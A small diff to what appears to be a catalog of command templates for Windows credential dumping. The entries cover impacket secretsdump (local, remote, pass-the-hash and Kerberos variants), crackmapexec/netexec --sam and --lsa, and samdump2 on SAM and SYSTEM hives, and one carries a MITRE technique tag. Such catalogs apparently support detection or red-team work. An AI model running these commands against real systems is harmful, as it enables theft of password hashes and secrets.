@@ -79,7 +79,7 @@ secretsdump-local bash: «secretsdump.py¦impacket-secretsdump¦python3 secretsd
 secretsdump-remote bash: «secretsdump.py¦impacket-secretsdump¦python secretsdump.py» «‹domain›/¦./¦»‹user›:'‹pass›'@‹ip›« -outputfile ‹name›¦»
 secretsdump-hash bash: «secretsdump.py¦impacket-secretsdump» -hashes «aad3b435b51404eeaad3b435b51404ee¦»:‹hash› «‹domain›/¦»‹user›@«‹ip›¦‹server›»« -history¦ -outputfile ‹name›¦»
 secretsdump-win cmd: «‹dir›\secretsdump.exe¦python secretsdump.py¦py ‹dir›\secretsdump.py» -sam ‹file› -system ‹file›« -security ‹file›¦» LOCAL
-secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹server›.‹fqdn›
+secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹host›.‹fqdn›
 crackmapexec-sam bash: «crackmapexec¦cme¦nxc¦netexec¦poetry run crackmapexec» smb «‹ip›¦‹ip›/24¦‹lfile›» -u «‹user›¦administrator» -p '‹pass›' --sam
 crackmapexec-lsa bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›»« --local-auth¦» --lsa
 samdump2 bash: «samdump2¦/usr/bin/samdump2» «/mnt/‹word›/Windows/System32/config/SYSTEM /mnt/‹word›/Windows/System32/config/SAM¦‹lfile› ‹lfile›»‹lmaybe›
